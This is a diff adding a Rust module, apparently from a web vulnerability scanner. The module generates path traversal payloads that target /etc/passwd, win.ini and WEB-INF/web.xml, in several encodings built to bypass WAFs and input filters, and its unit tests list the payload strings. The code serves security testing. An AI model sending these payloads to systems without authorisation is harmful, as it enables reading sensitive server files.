@@ -0,0 +1,223 @@
+//! Path traversal payloads with encoding bypass variants
+//!
+//! A plain `../../../etc/passwd` is the first thing WAFs and input filters
+//! block, so each file is also requested with the `../` sequence encoded the
+//! ways decoders in front of the file API tend to undo it. YAML templates use
+//! every variant through the `{{path_traversal_payload}}` placeholder.
+//!
+//! Plain `../` in a URL path is collapsed by URL parsing before the request is
+//! sent; only the encoded variants reach the server from a path segment.
+
+/// Payload name filled with [`PathTraversalDetector::values`] in YAML templates
+pub const PATH_TRAVERSAL_PAYLOAD: &str = "path_traversal_payload";
+
+/// How the `../` sequence of a payload is written
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum TraversalEncoding {
+    /// `../`
+    Plain,
+    /// `%2e%2e%2f`
+    UrlEncoded,
+    /// `%252e%252e%252f`, for servers that decode twice
+    DoubleEncoded,
+    /// `../` with `%00.png` appended, for suffix checks cut at a NUL byte
+    NullByte,
+    /// `..%c0%af`, the overlong UTF-8 encoding of `/`
+    OverlongUtf8,
+}
+
+impl TraversalEncoding {
+    /// Every encoding, in the order payloads are sent
+    pub const ALL: [TraversalEncoding; 5] = [
+        TraversalEncoding::Plain,
+        TraversalEncoding::UrlEncoded,
+        TraversalEncoding::DoubleEncoded,
+        TraversalEncoding::NullByte,
+        TraversalEncoding::OverlongUtf8,
+    ];
+
+    /// One `../` step
+    fn step(self) -> &'static str {
+        match self {
+            TraversalEncoding::Plain | TraversalEncoding::NullByte => "../",
+            TraversalEncoding::UrlEncoded => "%2e%2e%2f",
+            TraversalEncoding::DoubleEncoded => "%252e%252e%252f",
+            TraversalEncoding::OverlongUtf8 => "..%c0%af",
+        }
+    }
+
+    /// `file` reached by climbing `depth` directories
+    pub fn encode(self, file: &str, depth: usize) -> String {
+        let mut payload = self.step().repeat(depth);
+        payload.push_str(file.trim_start_matches('/'));
+        if self == TraversalEncoding::NullByte {
+            payload.push_str("%00.png");
+        }
+        payload
+    }
+}
+
+/// A file to read and how many directories to climb to reach it
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct TraversalFile {
+    /// Path of the file relative to where the climb ends
+    pub path: String,
+    /// Number of `../` steps
+    pub depth: usize,
+}
+
+impl TraversalFile {
+    /// `path`, reached after `depth` steps
+    pub fn new(path: impl Into<String>, depth: usize) -> Self {
+        Self {
+            path: path.into(),
+            depth,
+        }
+    }
+}
+
+/// One payload to inject
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct TraversalPayload {
+    /// Encoding of the `../` steps
+    pub encoding: TraversalEncoding,
+    /// File the payload points at
+    pub file: String,
+    /// Text to inject
+    pub value: String,
+}
+
+/// Generates path traversal payloads in every [`TraversalEncoding`]
+#[derive(Debug, Clone)]
+pub struct PathTraversalDetector {
+    files: Vec<TraversalFile>,
+}
+
+impl PathTraversalDetector {
+    /// Payloads for `/etc/passwd`, `C:\Windows\win.ini` and a Java web
+    /// application's `WEB-INF/web.xml`
+    ///
+    /// Extra `../` steps stop at the filesystem root, so system files use a
+    /// deep climb; `WEB-INF` sits just above the usual download directories.
+    pub fn new() -> Self {
+        Self {
+            files: vec![
+                TraversalFile::new("etc/passwd", 8),
+                TraversalFile::new("windows/win.ini", 8),
+                TraversalFile::new("WEB-INF/web.xml", 2),
+            ],
+        }
+    }
+
+    /// Read `files` instead of the defaults
+    pub fn with_files(mut self, files: Vec<TraversalFile>) -> Self {
+        self.files = files;
+        self
+    }
+
+    /// Every file in every encoding
+    pub fn payloads(&self) -> Vec<TraversalPayload> {
+        self.files
+            .iter()
+            .flat_map(|file| {
+                TraversalEncoding::ALL
+                    .iter()
+                    .map(|&encoding| TraversalPayload {
+                        encoding,
+                        file: file.path.clone(),
+                        value: encoding.encode(&file.path, file.depth),
+                    })
+            })
+            .collect()
+    }
+
+    /// Payload texts, as a `payloads:` list
+    pub fn values(&self) -> Vec<String> {
+        self.payloads().into_iter().map(|p| p.value).collect()
+    }
+}
+
+impl Default for PathTraversalDetector {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_encodings() {
+        let encoded: Vec<_> = TraversalEncoding::ALL
+            .iter()
+            .map(|e| e.encode("/etc/passwd", 3))
+            .collect();
+        assert_eq!(
+            encoded,
+            vec![
+                "../../../etc/passwd",
+                "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/passwd",
+                "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc/passwd",
+                "../../../etc/passwd%00.png",
+                "..%c0%af..%c0%af..%c0%afetc/passwd",
+            ]
+        );
+    }
+
+    /// One round of percent-decoding
+    fn decode(s: &str) -> Vec<u8> {
+        let bytes = s.as_bytes();
+        let mut decoded = Vec::new();
+        let mut i = 0;
+        while i < bytes.len() {
+            match (bytes[i], s.get(i + 1..i + 3)) {
+                (b'%', Some(hex)) => {
+                    decoded.push(u8::from_str_radix(hex, 16).unwrap());
+                    i += 3;
+                }
+                (byte, _) => {
+                    decoded.push(byte);
+                    i += 1;
+                }
+            }
+        }
+        decoded
+    }
+
+    #[test]
+    fn test_encodings_decode_to_the_plain_payload() {
+        let plain = TraversalEncoding::Plain.encode("etc/passwd", 4);
+        let url = TraversalEncoding::UrlEncoded.encode("etc/passwd", 4);
+        assert_eq!(decode(&url), plain.as_bytes());
+        let double = TraversalEncoding::DoubleEncoded.encode("etc/passwd", 4);
+        let once = String::from_utf8(decode(&double)).unwrap();
+        assert_eq!(once, url);
+        assert_eq!(decode(&once), plain.as_bytes());
+        let null_byte = TraversalEncoding::NullByte.encode("etc/passwd", 4);
+        assert_eq!(decode(&null_byte), format!("{}\0.png", plain).as_bytes());
+
+        // Lenient UTF-8 decoders read C0 AF as '/'; strict ones reject it
+        let overlong = decode(&TraversalEncoding::OverlongUtf8.encode("etc/passwd", 1));
+        assert_eq!(overlong, b"..\xc0\xafetc/passwd");
+        assert!(std::str::from_utf8(&overlong).is_err());
+    }
+
+    #[test]
+    fn test_every_file_in_every_encoding() {
+        let detector = PathTraversalDetector::new().with_files(vec![
+            TraversalFile::new("boot.ini", 2),
+            TraversalFile::new("a", 1),
+        ]);
+        let payloads = detector.payloads();
+        assert_eq!(payloads.len(), 10);
+        assert_eq!(payloads[0].file, "boot.ini");
+        assert_eq!(payloads[0].encoding, TraversalEncoding::Plain);
+        assert_eq!(payloads[9].value, "..%c0%afa");
+
+        let values = PathTraversalDetector::new().values();
+        assert_eq!(values.len(), 15);
+        assert!(values.contains(&"../../../../../../../../etc/passwd".to_string()));
+        assert!(values.contains(&"%2e%2e%2f%2e%2e%2fWEB-INF/web.xml".to_string()));
+    }
+}